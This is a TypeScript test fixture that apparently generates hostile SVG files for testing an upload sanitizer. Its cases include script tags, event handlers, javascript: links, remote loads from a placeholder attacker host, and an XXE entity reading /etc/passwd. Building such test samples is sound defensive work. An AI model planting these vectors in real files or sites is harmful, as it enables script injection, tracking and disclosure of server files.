import { attack, evilHost, hostile } from './hostile-file.ts'

const head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const drawing = (inside: string, attributes = '') =>
  `${head} width="40" height="40"${attributes}>${inside}<rect width="40" height="40" fill="#2a7"/></svg>`

const insides: Record<string, string> = {
  'a script': `<script>${attack}</script>`,
  'a script in CDATA': `<script><![CDATA[${attack}]]></script>`,
  'a script in capitals': `<SCRIPT>${attack}</SCRIPT>`,
  'a script in a namespace of its own': `<x:script xmlns:x="http://www.w3.org/2000/svg">${attack}</x:script>`,
  'a script from elsewhere': `<script href="https://${evilHost}/x.js"/>`,
  'a script from elsewhere by xlink': `<script xlink:href="https://${evilHost}/x.js"/>`,
  'a script behind a broken comment': `<!-- --!><script>${attack}</script>`,
  'an element that calls back': `<rect onclick="${attack}" onmouseover="${attack}" width="9" height="9"/>`,
  'a picture that fails': `<image href="x" onerror="${attack}"/>`,
  'an animation that begins': `<animate onbegin="${attack}" attributeName="x" dur="1s"/>`,
  'an animation of a link': `<a id="l"><animate attributeName="href" values="javascript:${attack}"/><rect width="9" height="9"/></a>`,
  'a set of a handler': `<rect><set attributeName="onmouseover" to="${attack}"/></rect>`,
  'a link that runs': `<a href="javascript:${attack}"><rect width="40" height="40"/></a>`,
  'a link that hides what it runs': `<a href="java&#x09;script:${attack}"><rect width="40" height="40"/></a>`,
  'a link to a page in itself':
    '<a href="data:text/html,<script>alert(1)</script>"><rect width="9" height="9"/></a>',
  'foreign content': `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml" onload="${attack}"/></foreignObject>`,
  'a frame': `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://${evilHost}/"/></foreignObject>`,
  'an object': `<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="https://${evilHost}/"/></foreignObject>`,
  'an embedded drawing': `<image href="data:image/svg+xml;base64,${Buffer.from(drawing(`<script>${attack}</script>`)).toString('base64')}" width="9" height="9"/>`,
  'a picture from elsewhere': `<image href="https://${evilHost}/pixel.png" width="9" height="9"/>`,
  'a part from elsewhere': `<use href="https://${evilHost}/x.svg#a"/>`,
  'a part that is data': '<use href="data:image/svg+xml,<svg id=\'a\'/>#a"/>',
  'a fill from elsewhere': `<rect width="9" height="9" fill="url(https://${evilHost}/x#a)"/>`,
  'a style from elsewhere': `<style>@import url(//${evilHost}/x.css);</style>`,
  'a background from elsewhere': `<rect width="9" height="9" style="background:url('https://${evilHost}/x')"/>`,
  'a background in escapes': `<rect width="9" height="9" style="fill:u\\72l(https://${evilHost}/x)"/>`,
  'a font from elsewhere': `<style>@font-face{font-family:x;src:url(https://${evilHost}/x.woff)}text{font-family:x}</style><text>x</text>`,
  'a filter from elsewhere': `<filter id="f"><feImage href="https://${evilHost}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  'a handler element': `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${attack}</handler>`,
}

/** Drawings that try to run or load something. */
export const scriptedDrawings = [
  ...Object.entries(insides).map(([what, inside], index) =>
    hostile(`a drawing with ${what}`, `zeichnung-${index}.svg`, 'image/svg+xml', () => drawing(inside)),
  ),
  hostile('a drawing that runs when it opens', 'auf.svg', 'image/svg+xml', () =>
    drawing('', ` onload="${attack}"`),
  ),
  hostile(
    'a drawing with a style sheet from elsewhere',
    'stil.svg',
    'image/svg+xml',
    () => `<?xml-stylesheet href="https://${evilHost}/x.css"?>${drawing('')}`,
  ),
  hostile(
    'a drawing that transforms itself',
    'xslt.svg',
    'image/svg+xml',
    () =>
      `<?xml-stylesheet type="text/xsl" href="#x"?>${drawing(`<xsl:stylesheet id="x" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`)}`,
  ),
  hostile(
    'a drawing that reads a file',
    'xxe.svg',
    'image/svg+xml',
    () => `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
  ),
  hostile(
    'a drawing whose entity is a script',
    'wort.svg',
    'image/svg+xml',
    () => `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;${attack}&#60;/script&#62;">]>${drawing('&x;')}`,
  ),
  hostile('a drawing in another encoding', 'utf16.svg', 'image/svg+xml', () =>
    Buffer.from(`\uFEFF${drawing(`<script>${attack}</script>`)}`, 'utf16le'),
  ),
]
